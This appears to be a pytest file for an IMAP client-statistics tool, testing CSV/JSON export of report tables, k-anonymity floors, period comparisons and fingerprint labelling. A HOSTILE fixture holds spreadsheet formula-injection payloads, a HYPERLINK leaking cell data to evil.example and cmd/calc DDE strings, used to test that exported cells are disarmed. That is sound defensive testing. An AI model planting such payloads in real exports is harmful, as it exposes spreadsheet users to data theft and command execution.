"""Issue 15: every table of the report exported as CSV and JSON (`imapveil report --export DIR`),
the same rows as the page shows, k-floored the same way, CSV disarmed against formula injection;
and what changed between the report's whole period and the whole period before it, on the
synthetic fleet of tests/stats/test_report_inventory.py."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from imapveil.cli import main
from imapveil.stats import periods, tables
from imapveil.stats.charts import safe
from imapveil.stats.identify import NO_ID
from imapveil.stats.labels import kind, parse_labels
from imapveil.stats.report import (
    INFERRED,
    NAMED,
    TABLES,
    build,
    export,
    fingerprints_table,
    render,
)
from imapveil.stats.store import Batch, Store
from imapveil.stats.tables import Cell, Column, Table
from imapveil.stats.traits import fingerprint_usage
from tests.helpers.postgres import Postgres
from tests.stats.test_report_inventory import (
    CHANGING,
    EDGES,
    FLEET,
    JA4_NSS,
    JA4_ODD,
    JA4_RARE,
    JA4_SCHANNEL,
    K9,
    LABELS,
    NOW,
    SINCE,
    UNTIL,
    add_changes,
    add_traits,
    make_fleet,
)


class PageTables(HTMLParser):
    """The cells of every `<table data-table=NAME>` of a page, as text, by NAME."""

    def __init__(self) -> None:
        super().__init__()
        self.found: dict[str, list[list[str]]] = {}
        self._table: str | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self._table = dict(attrs)["data-table"]
            self.found[self._table or ""] = []
        elif tag == "tr" and self._table:
            self.found[self._table].append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._table:
            self.found[self._table][-1].append("".join(self._cell))
            self._cell = None
        elif tag == "table":
            self._table = None


def page_tables(page: str) -> dict[str, list[list[str]]]:
    parser = PageTables()
    parser.feed(page)
    return parser.found


def from_csv(column: Column, text: str) -> Cell:
    """A CSV cell read back as the JSON has it."""
    if text == "":
        return None if column.kind not in tables.TEXT else ""
    if column.kind in tables.TEXT:
        return text.removeprefix("'")  # what disarm added
    return float(text) if "share" in column.kind else int(text)


def check_exports(found: Table, page: dict[str, list[list[str]]]) -> None:
    """CSV and JSON parse back to the same rows, and those are the page's rows, cell by cell."""
    data = json.loads(tables.as_json(found))
    assert data["table"] == found.name
    columns = [Column(c["key"], c["title"], c["kind"]) for c in data["columns"]]
    assert columns == list(found.columns)
    lines = list(csv.reader(io.StringIO(tables.as_csv(found))))
    assert [from_csv(Column(k, k), k) for k in lines[0]] == [c.key for c in columns]
    read = [[from_csv(c, v) for c, v in zip(columns, line, strict=True)] for line in lines[1:]]
    assert read == data["rows"]
    head, *body = page[found.name]
    assert head == [c.title for c in columns]
    assert body == [[tables.shown(c, v) for c, v in zip(columns, row, strict=True)]
                    for row in data["rows"]]  # fmt: skip
    assert len(body) == len(found.rows)


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """The fleet and the clients that change between its halves."""
    store = make_fleet(str(tmp_path_factory.mktemp("fleet") / "stats.sqlite"))
    add_changes(store)
    add_traits(store, FLEET + CHANGING)  # EDGES' sessions: traits unknown
    yield store
    store.close()


@pytest.mark.parametrize(("since", "until"), [(None, None), (SINCE, UNTIL)])
def test_every_table_exports_the_rows_the_page_shows(
    fleet: Store, since: str | None, until: str | None
) -> None:
    report = build(fleet, since, until, now=NOW, labels=LABELS)
    assert tuple(report.tables) == TABLES
    page = page_tables(render(report))
    shown = {name for name, rows in page.items() if rows}
    # The changes' table is on the page where there is something to compare.
    assert shown == set(TABLES) - ({"changes"} if since is None else set())
    for found in report.tables.values():
        if found.name in page:
            check_exports(found, page)
        else:
            assert found.rows == ()
        data = json.loads(tables.as_json(found))
        assert (data["since"], data["until"], data["min_users"]) == (since, until, 5)


def test_the_command_writes_every_table(fleet: Store, tmp_path: Path) -> None:
    out = tmp_path / "out" / "tables"
    html = tmp_path / "r.html"
    args = ["report", "--store", fleet.url, "--since", SINCE, "--until", UNTIL]
    assert main([*args, "--export", str(out), "--html", str(html)]) == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(
        f"{name}.{kind}" for name in TABLES for kind in ("csv", "json")
    )
    page = page_tables(html.read_text(encoding="utf-8"))
    for name in TABLES:
        data = json.loads((out / f"{name}.json").read_text(encoding="utf-8"))
        columns = [Column(c["key"], c["title"], c["kind"]) for c in data["columns"]]
        lines = list(csv.reader(io.StringIO((out / f"{name}.csv").read_text(encoding="utf-8"))))
        assert [[from_csv(c, v) for c, v in zip(columns, line, strict=True)]
                for line in lines[1:]] == data["rows"]  # fmt: skip
        assert page[name][1:] == [
            [tables.shown(c, v) for c, v in zip(columns, row, strict=True)] for row in data["rows"]
        ]
    # Export only; nothing else written.
    assert main([*args, "--export", str(tmp_path / "again")]) == 0
    assert (tmp_path / "again" / "inventory.csv").read_bytes() == (
        out / "inventory.csv"
    ).read_bytes()


def test_k_floor_in_every_export(fleet: Store, tmp_path: Path) -> None:
    """Groups under the floor are never named in an export, and are with --min-users 1."""
    small = ("NeoMutt", "FairEmail", "Geary", "FreeBSD", "20241002", JA4_ODD, JA4_RARE)
    for floor, named in ((5, False), (1, True)):
        out = tmp_path / str(floor)
        args = ["report", "--store", fleet.url, "--export", str(out), "--min-users", str(floor)]
        assert main([*args, "--since", SINCE, "--until", UNTIL]) == 0
        text = "".join(p.read_text(encoding="utf-8") for p in sorted(out.iterdir()))
        for name in small:
            assert (name in text) is named, (floor, name)
    inventory = json.loads((tmp_path / "5" / "inventory.json").read_text(encoding="utf-8"))
    assert (inventory["folded_groups"], inventory["folded_users"]) == (4, 12)
    assert inventory["rows"][-1][:3] == ["other", "ID", 12]
    assert any("not shown by client" in n for n in inventory["notes"])
    # The weeks under the floor: empty in CSV, null in JSON, never the small number.
    weeks = json.loads((tmp_path / "5" / "weeks.json").read_text(encoding="utf-8"))
    keys = [c["key"] for c in weeks["columns"]]
    assert "Evolution" not in keys and "Geary" not in keys
    edge = keys.index("Edge")
    assert [row[edge] for row in weeks["rows"]] == [5] + [None] * 5


HOSTILE = {
    "family": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "version": "+1+cmd|' /C calc'!A0",
    "platform": "@SUM(1+1)*cmd|' /C calc'!A0",
    "os_version": "-2+3",
}


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Store]:
    """Six users of a client whose every name is a spreadsheet formula."""
    store = Store(str(tmp_path / "stats.sqlite"))
    store.connect()
    at = "2026-11-02T10:00:00.000+00:00"
    store.write(Batch(sessions=[
        (f"s{n}", "=cmd", at, at, at[:10], f"hmac:{n}", "logout", 1.0, 1, 1, 1, 1,
         HOSTILE["family"], HOSTILE["version"], HOSTILE["platform"], HOSTILE["os_version"])
        for n in range(6)
    ]))  # fmt: skip
    yield store
    store.close()


def test_formula_cells_are_disarmed(hostile: Store, tmp_path: Path) -> None:
    assert main(["report", "--store", hostile.url, "--export", str(tmp_path / "out")]) == 0
    texts: list[str] = []
    for path in sorted((tmp_path / "out").glob("*.csv")):
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            texts += line
    assert any(HOSTILE["family"] in t for t in texts)
    for cell in texts:
        assert not cell.startswith(tables.FORMULA), cell
    assert "'" + HOSTILE["family"] in texts  # inventory, currency, weeks (a heading), clients
    assert f"'{HOSTILE['family']} {HOSTILE['version']}" in texts  # versions
    assert f"'{HOSTILE['platform']} {HOSTILE['os_version']}" in texts  # systems
    assert f"'{HOSTILE['platform']} (6)" in texts  # the inventory's platforms
    # JSON keeps the text as it is; a number is never disarmed (a negative difference stays one).
    data = json.loads((tmp_path / "out" / "inventory.json").read_text(encoding="utf-8"))
    assert data["rows"][0][0] == HOSTILE["family"]
    assert tables.disarm("-15") == "'-15" and tables.disarm("K-9") == "K-9"
    assert tables.disarm("'=1") == "''=1" and tables.disarm("it's") == "it's"
    lines = tables.as_csv(tables.table("t", "t", [("n", "n", "change")], [[-15]]))
    assert lines == "n\n-15\n"


def test_stats_csv_is_disarmed_too(hostile: Store, capsys: pytest.CaptureFixture[str]) -> None:
    for by in ("family", "week", "version"):
        assert main(["stats", "--store", hostile.url, "--by", by, "--format", "csv"]) == 0
        cells = [c for line in csv.reader(io.StringIO(capsys.readouterr().out)) for c in line]
        assert not any(c.startswith(tables.FORMULA) for c in cells), (by, cells)
        assert any(c.startswith("'=HYPERLINK") for c in cells), by


def test_whole_periods_compared(fleet: Store) -> None:
    found = periods.compare(fleet, SINCE, UNTIL, now=NOW)
    assert found.period == periods.Period(SINCE, UNTIL)
    assert found.previous == periods.Period("2026-09-07T00:00:00.000+00:00", SINCE)
    assert (found.users_now, found.users_before) == (500 + 24 + 25 + 4 + 5, 470 + 10 + 40 + 4 + 10)
    rows = [(r.family, r.change, r.before, r.now, r.difference) for r in found.rows]
    assert rows == [
        ("eM Client", "appeared", None, 30, None),  # new in the last week
        ("Edge", "appeared", None, 5, None),  # its sessions start at the period's first moment
        ("Evolution", "disappeared", 8, None, None),  # 3 users now: under the floor
        ("Early", "disappeared", 5, None, None),  # the previous period's first moment
        ("Eve", "disappeared", 5, None, None),  # its last moment
        (K9, "fewer users", 40, 25, -15),
        ("Mailspring", "more users", 10, 24, 14),
        ("Apple Mail", "no change", 150, 150, 0),
        ("Outlook", "no change", 100, 100, 0),  # gone in the last week only
        ("Thunderbird", "no change", 200, 200, 0),
        (NO_ID, "no change", 15, 15, 0),
    ]  # Geary (4 users), NeoMutt and FairEmail (3): never named; Earlier and Late: outside both
    assert [round(r.ratio, 3) for r in found.rows if r.ratio is not None][:2] == [-0.375, 1.4]
    assert periods.said(found) == (
        "2026-10-19 to 2026-11-29 against 2026-09-07 to 2026-10-18: 558 users against 534 "
        "(+4.5%); appeared: eM Client, Edge; disappeared: Evolution, Early, Eve; largest "
        f"changes: {K9} \u221215 (\u221237.5%), Mailspring +14 (+140.0%)."
    )
    everyone = {r.family: (r.before, r.now) for r in periods.compare(
        fleet, SINCE, UNTIL, min_users=1, now=NOW).rows}  # fmt: skip
    assert everyone["Evolution"] == (8, 3) and everyone["Geary"] == (4, 4)
    assert everyone["Edge"] == (None, 5) and everyone["Eve"] == (5, None)
    assert "Late" not in everyone and "Earlier" not in everyone and set(EDGES) - {
        "Late", "Earlier"} <= set(everyone)  # fmt: skip


def test_changes_on_the_page_and_in_the_export(fleet: Store) -> None:
    report = build(fleet, SINCE, UNTIL, now=NOW)
    page = render(report)
    assert f"largest changes: {K9} \u221215 (\u221237.5%)" in page
    row = page_tables(page)["changes"][6]
    assert row == [K9, "fewer users", "40", "25", "\u221215", "\u221237.5%"]
    data: dict[str, Any] = json.loads(tables.as_json(report.tables["changes"]))
    assert data["rows"][5] == [K9, "fewer users", 40, 25, -15, -0.375]
    assert data["rows"][0] == ["eM Client", "appeared", None, 30, None, None]
    assert data["previous"] == {"since": "2026-09-07T00:00:00.000+00:00", "until": SINCE}
    assert (data["users_now"], data["users_before"]) == (558, 534)
    lines = tables.as_csv(report.tables["changes"]).splitlines()
    assert lines[1] == "eM Client,appeared,,30,,"
    assert lines[6] == f"{K9},fewer users,40,25,-15,-0.375"


def test_no_previous_period_and_an_empty_store(fleet: Store, tmp_path: Path) -> None:
    found = periods.compare(fleet, now=NOW)
    assert found.rows == [] and found.users_before == 0
    assert periods.compare(fleet, "2027-01-01", now=NOW).period is None  # ends before it begins
    assert "no sessions in the previous period, nothing to compare" in periods.said(found)
    empty = Store(str(tmp_path / "stats.sqlite"))
    empty.connect()
    try:
        nothing = periods.compare(empty, now=NOW)
        assert nothing.period is None and periods.said(nothing).startswith("No sessions")
        assert export(empty, "week", "csv") == "week,other\r\n"
        assert all(t.rows == () for n, t in build(empty, now=NOW).tables.items() if n != "id")
    finally:
        empty.close()


def test_extensions_in_use(fleet: Store, tmp_path: Path) -> None:
    report = build(fleet, SINCE, UNTIL, now=NOW)
    found = report.tables["extensions"]
    rows = {(r[0], r[1]): r[2:] for r in found.rows}  # users, share, sessions, client's users
    assert rows[("Thunderbird", "QRESYNC")] == (150, 0.75, 900, 200)
    assert rows[("Apple Mail", "COMPRESS=DEFLATE")] == (100, 0.6667, 1200, 150)
    assert rows[(K9, "CONDSTORE")] == (10, 0.4, 60, 25)  # 10 of its 25 users in the period
    assert rows[(NO_ID, "IDLE")] == (15, 1.0, 90, 15)
    # Under the floor: Thunderbird's UTF8=ACCEPT (3 users), XLIST without ID (4), NeoMutt's,
    # FairEmail's, Evolution's and Geary's IDLE (3, 3, 3, 4): 16 users, each once.
    names = {(c, e) for c, e, *_ in found.rows}
    assert ("Thunderbird", "UTF8=ACCEPT") not in names and (NO_ID, "XLIST") not in names
    assert {c for c, _ in names} == {"Thunderbird", "Apple Mail", "Outlook", "eM Client", K9,
                                     "Mailspring", NO_ID}  # fmt: skip
    assert (found.meta["folded_groups"], found.meta["folded_users"]) == (6, 16)
    assert (
        "6 groups (a client and an extension) of fewer than 5 users each are not shown: "
        "16 users in them." in found.notes
    )
    # Most users first, then each client's extensions by users.
    assert [r[1] for r in found.rows if r[0] == "Thunderbird"] == [
        "CONDSTORE", "ENABLE", "IDLE", "SPECIAL-USE", "QRESYNC", "MOVE"]  # fmt: skip
    page = render(report)
    section = page[page.index('<section class="extensions">') :]
    section = section[: section.index("</section>")]
    assert section.count('<rect class="cell"') == len(found.rows) and "75%</text>" in section
    assert "UTF8=ACCEPT" not in page and "XLIST</" in section  # Mailspring: 24 users
    out = tmp_path / "all"
    args = ["report", "--store", fleet.url, "--since", SINCE, "--until", UNTIL]
    assert main([*args, "--min-users", "1", "--export", str(out)]) == 0
    data = json.loads((out / "extensions.json").read_text(encoding="utf-8"))
    assert ["Thunderbird", "UTF8=ACCEPT", 3, 0.015, 18, 200] in data["rows"]
    assert data["folded_groups"] == 0


def test_inferred_users_in_rows_of_their_own(fleet: Store, tmp_path: Path) -> None:
    """Labelled fingerprints add the inferred families after "other", each marked, k-floored;
    the rows from an ID stay as they are."""
    plain = build(fleet, SINCE, UNTIL, now=NOW).tables["inventory"]
    labelled = build(fleet, SINCE, UNTIL, now=NOW, labels=LABELS).tables["inventory"]
    named = [r for r in labelled.rows if r[1] == NAMED]
    assert named == list(plain.rows) and len(named) == len(labelled.rows) - 1
    # Ten users without ID whose JA4 is labelled Outlook: six sessions each in the period, a
    # share of the period's 558 users; "Rare Mail" (3 users) is under the floor.
    assert labelled.rows[-1] == ("Outlook", INFERRED, 10, 0.0179, 60, "2026-10-21",
                                 "2026-11-25", "Windows (10)")  # fmt: skip
    assert ("Outlook", NAMED) in {r[:2] for r in named}  # its ID-named users: a row apart
    meta = labelled.meta
    assert (meta["inferred_folded_groups"], meta["inferred_folded_users"]) == (1, 3)
    (note,) = [n for n in labelled.notes if INFERRED in n]
    assert f'counted in the "{NO_ID}" row too' in note
    assert note.endswith("1 inferred client of fewer than 5 users each is not shown: 3 users.")
    assert not any(INFERRED in n for n in plain.notes) and plain.meta["inferred_folded_groups"] == 0
    page = render(build(fleet, SINCE, UNTIL, now=NOW, labels=LABELS))
    assert page_tables(page)["inventory"][-1][:3] == ["Outlook", INFERRED, "10"]
    assert ">Outlook (inferred)</text>" in page and ">Outlook</text>" in page
    assert "Rare Mail" not in page
    # The summary line's shares are of the rows from an ID only.
    assert "; of the users: Thunderbird 35.8%, Apple Mail 26.9%, Outlook 17.9%, eM Client" in page
    everyone = build(fleet, SINCE, UNTIL, 1, now=NOW, labels=LABELS).tables["inventory"]
    assert [r[:3] for r in everyone.rows if r[1] == INFERRED] == [
        ("Outlook", INFERRED, 10), ("Rare Mail", INFERRED, 3)]  # fmt: skip
    assert [r[0] for r in everyone.rows].count("other") == 0


def test_fingerprints_without_a_label(fleet: Store) -> None:
    """What an administrator needs to label a fingerprint: the clients named beside it."""
    found = build(fleet, SINCE, UNTIL, now=NOW).tables["fingerprints"]
    assert found.rows == (
        ("ja4", JA4_NSS, 200, 1200, None, "Thunderbird (200)"),
        ("ja4", JA4_SCHANNEL, 110, 560, 10, "Outlook (100)"),
    )  # JA4_RARE (3 users) and JA4_ODD (2): under the floor
    assert found.meta["folded"]["ja4"] == {"groups": 2, "users": 5}
    assert found.notes[-1] == "Not listed: 2 ja4 fingerprints of fewer than 5 users each (5 users)."
    labelled = build(fleet, SINCE, UNTIL, now=NOW, labels=LABELS).tables["fingerprints"]
    assert [r[1] for r in labelled.rows] == [JA4_NSS] and labelled.meta["labelled"] == 1
    assert labelled.notes[-1].endswith(
        "; 1 labelled (their users without ID are in the inventory)."
    )
    page = render(build(fleet, SINCE, UNTIL, now=NOW, labels=LABELS))
    assert page_tables(page)["fingerprints"][1] == [
        "ja4", JA4_NSS, "200", "1200", "\u2013", "Thunderbird (200)"]  # fmt: skip
    top = fingerprints_table(fingerprint_usage(fleet, SINCE, UNTIL, 1), top=1)
    assert [r[1] for r in top.rows] == [JA4_NSS] and top.meta["more"] == 3
    assert "3 more with fewer users" in top.notes[-1]
    assert (found.meta["min_users"], found.meta["since"]) == (5, SINCE)
    nothing = build(fleet, SINCE, UNTIL, 500, now=NOW)
    assert nothing.tables["fingerprints"].rows == ()
    assert "No fingerprint without a label was seen by at least 500 users" in render(nothing)


def test_no_extensions_known(tmp_path: Path) -> None:
    """A store of sessions without traits (from before they were kept): a note, no chart."""
    store = make_fleet(str(tmp_path / "stats.sqlite"))
    try:
        report = build(store, now=NOW)
        assert report.tables["extensions"].rows == ()
        assert "No session in the period has its extensions recorded" in render(report)
    finally:
        store.close()


def test_postgresql_gives_the_same_tables(fleet: Store, postgres: Postgres) -> None:
    other = make_fleet(postgres.url)
    try:
        add_changes(other)
        add_traits(other, FLEET + CHANGING)
        for since, until in ((None, None), (SINCE, UNTIL)):
            found = build(other, since, until, now=NOW, labels=LABELS)
            assert found == build(fleet, since, until, now=NOW, labels=LABELS)
            assert INFERRED in found.tables["inventory"].column("source")
    finally:
        other.close()


def test_the_command_line(fleet: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    base = ["report", "--store", fleet.url]
    assert main([*base, "--html", "-", "--export", str(tmp_path / "t")]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("<!DOCTYPE html>") and out.endswith("</html>\n")  # the page alone
    assert err == f"wrote 22 files (11 tables) to {tmp_path / 't'}\n"
    blocker = tmp_path / "a-file"
    blocker.write_text("", encoding="utf-8")
    assert main([*base, "--export", str(blocker)]) == 1
    err = capsys.readouterr().err
    assert (
        err.startswith(f"imapveil: cannot export the tables to {blocker}: ")
        and err.count("\n") == 1
    )
    with pytest.raises(SystemExit) as exited:
        main(base)
    assert exited.value.code == 2
    assert "report needs --html FILE, --export DIR or both" in capsys.readouterr().err


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.text(alphabet=st.sampled_from("'=+-@\t\r\x1b a"), max_size=6) | st.text(max_size=12),
        min_size=1,
        max_size=4,
    )
)
def test_any_text_reads_back_and_is_never_a_formula(texts: list[str]) -> None:
    """Whatever a client calls itself: each CSV cell reads back as the text made safe, and no
    cell (a heading neither) starts as a formula does."""
    found = tables.table(
        "t", "t", [(f"k{i}{t}", "t", "text") for i, t in enumerate(texts)], [texts, texts[::-1]]
    )
    head, *lines = list(csv.reader(io.StringIO(tables.as_csv(found))))
    assert len(lines) == 2
    for cell in [*head, *lines[0], *lines[1]]:
        assert not cell.startswith(tables.FORMULA)
    text = Column("t", "t", "text")
    assert [from_csv(text, c) for c in lines[0]] == [safe(t) for t in texts]
    assert json.loads(tables.as_json(found))["rows"][1] == [safe(t) for t in texts[::-1]]


def test_the_docs_name_every_table_and_their_label_example_reads() -> None:
    """docs/report.md names every exported table; docs/fingerprints.md's labels file is one."""
    docs = Path(__file__).resolve().parents[2] / "docs"
    text = (docs / "report.md").read_text(encoding="utf-8")
    for name in TABLES:
        assert f"| `{name}`" in text or f", `{name}`" in text, name
    guide = (docs / "fingerprints.md").read_text(encoding="utf-8")
    example = guide.split("```toml\n", 1)[1].split("```", 1)[0]
    labels = parse_labels(example, "docs/fingerprints.md")
    assert {kind(f) for f in labels} == {"ja4", "behaviour"}
    assert {(label.family, label.platform) for label in labels.values()} == {("Outlook", "Windows")}
